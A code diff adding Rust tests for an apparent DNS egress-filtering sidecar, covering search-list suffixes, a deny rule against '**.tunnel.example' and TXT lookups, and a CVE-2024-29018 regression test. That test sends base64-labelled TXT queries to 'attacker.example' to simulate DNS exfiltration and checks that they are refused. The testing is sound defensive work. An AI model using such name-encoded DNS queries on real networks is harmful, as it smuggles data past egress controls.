@@ -143,9 +143,40 @@ fn the_ends_of_a_search_list_are_answered_without_asking_anybody() {
             assert_eq!(told.code, 3, "{end}: a resolver goes on to the next name");
         }
         assert_eq!(ask(PEER[0], "api.card.example", A).expect("answered").records, 1);
+        let told = ask(PEER[0], "api.card.example.data.evil.example", A).expect("answered");
+        assert_eq!(told.code, 3, "it might be a search list's");
         assert_eq!(server.names(), ["api.card.example"]);
         let metrics = sidecar.ask("/metrics").expect("answers");
-        assert!(metrics.contains("bulkhead_dns_search_ends_total 4"), "{metrics}");
+        assert!(metrics.contains("bulkhead_dns_search_ends_total 5"), "{metrics}");
+        let reported = r#"bulkhead_denials_total{direction="egress",reason="l7_mismatch"} 1"#;
+        assert!(metrics.contains(reported), "only an end of the outside: {metrics}");
+    });
+}
+
+#[test]
+fn a_name_that_a_rule_denies_is_refused_though_others_are_open() {
+    in_own_network("questions::a_name_that_a_rule_denies_is_refused_though_others_are_open", &[], || {
+        let admin = "    - {name: all, to: [{cidr: 10.0.0.9/32}], ports: [udp/53]}
+---
+apiVersion: bulkhead.dev/v1alpha1
+kind: ClusterSegmentPolicy
+metadata: {name: never}
+spec:
+  tier: admin
+  priority: 1
+  subjects: {namespaces: {}}
+  egress:
+    - {name: tunnel, action: deny, to: [{cidr: 10.0.0.9/32}], ports: [udp/53], dns: [{names: ['**.tunnel.example']}, {types: [TXT]}]}";
+        let Ground { server, sidecar: _sidecar, peer: _peer } = ground("denied", admin);
+        assert_eq!(ask(PEER[0], "api.card.example", A).expect("answered").code, 0);
+        for (name, record) in
+            [("data.tunnel.example", A), ("api.card.example", TXT), ("api.card.example", 255)]
+        {
+            let told = ask(PEER[0], name, record).expect("refused");
+            assert_eq!(told.code, 5, "{name}");
+            assert!(told.text.contains("narrow rule `tunnel`"), "{}", told.text);
+        }
+        assert_eq!(server.names(), ["api.card.example"]);
     });
 }
 
@@ -212,5 +243,17 @@ fn a_name_server_that_is_not_there_is_told_of_at_once() {
         let mut buffer = [0; 512];
         let (_, from) = socket.recv_from(&mut buffer).expect("told");
         assert_eq!((buffer[3] & 15, from.port()), (2, 5300));
+    });
+}
+
+#[test]
+fn cve_2024_29018_data_does_not_leave_by_names() {
+    in_own_network("questions::cve_2024_29018_data_does_not_leave_by_names", &[], || {
+        let Ground { server, sidecar: _sidecar, peer: _peer } = ground("exfiltration", &named());
+        for part in 0..20 {
+            let told = ask(PEER[0], &format!("{part}.cGF5bG9hZA.attacker.example"), TXT).expect("refused");
+            assert_eq!(told.code, 5);
+        }
+        assert_eq!(server.names(), Vec::<String>::new());
     });
 }
